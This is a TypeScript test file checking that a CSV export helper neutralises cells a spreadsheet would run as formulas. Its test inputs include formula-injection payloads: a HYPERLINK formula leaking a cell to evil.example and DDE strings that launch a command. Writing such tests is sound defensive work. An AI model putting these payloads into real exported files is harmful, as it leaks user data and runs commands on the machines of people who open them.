import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseCell, readCsv, restoreCell, toCsv } from "./csv";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "=cmd|' /C calc'!A0",
  "+1",
  "-2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "'already quoted",
  "''",
  'a "quoted" name, with commas',
  "line one\nline two\r\nline three",
  "Zoë Ωmega 名前 🚀 ‮reversed",
  "",
  " =not a formula (leading space)",
  "plain",
];

describe("formula-safe CSV", () => {
  it("neutralises every cell a spreadsheet would run as a formula", () => {
    for (const v of HOSTILE) {
      const safe = neutraliseCell(v);
      expect(/^[=+\-@\t\r＝＋－＠]/.test(safe), JSON.stringify(v)).toBe(false);
      expect(restoreCell(safe)).toBe(v);
    }
    expect(neutraliseCell("plain")).toBe("plain");
    expect(neutraliseCell("=1")).toBe("'=1");
  });

  it("parses back with a standard CSV parser to the neutralised text, and exactly to the original through readCsv", () => {
    const rows = HOSTILE.map((v, i) => [String(i), v, v.length]);
    const csv = toCsv(["#", "value", "length"], rows);
    // A standard parser sees one record per row however many quotes, commas and newlines the cells hold.
    const records = parse(csv) as string[][];
    expect(records).toHaveLength(HOSTILE.length + 1);
    records.slice(1).forEach((r, i) => {
      expect(r[1]).toBe(neutraliseCell(HOSTILE[i]!));
      expect(r[1]!.startsWith("=")).toBe(false);
    });
    const back = readCsv(csv);
    expect(back.header).toEqual(["#", "value", "length"]);
    expect(back.rows.map((r) => r[1])).toEqual(HOSTILE);
  });

  it("writes numbers, dates, booleans and blanks as data, with CRLF line ends", () => {
    const csv = toCsv(["n", "d", "b", "none"], [[-2, new Date("2026-01-02T03:04:05.000Z"), true, null]]);
    expect(csv).toBe('"n","d","b","none"\r\n"-2","2026-01-02T03:04:05.000Z","true",\r\n');
  });

  it("refuses a row whose length is not the header's", () => {
    expect(() => toCsv(["a", "b"], [["1"]])).toThrow(/row 1/);
  });
});

describe("one CSV writer", () => {
  it("every CSV the app writes goes through toCsv: nothing else imports csv-stringify", () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (
          /\.tsx?$/.test(e.name) &&
          !e.name.includes(".test.") &&
          p !== path.join("lib", "api", "csv.ts") &&
          /from "csv-stringify/.test(readFileSync(p, "utf8"))
        )
          offenders.push(p);
      }
    };
    for (const dir of ["app", "components", "lib", "scripts"]) walk(dir);
    expect(offenders).toEqual([]);
  });
});
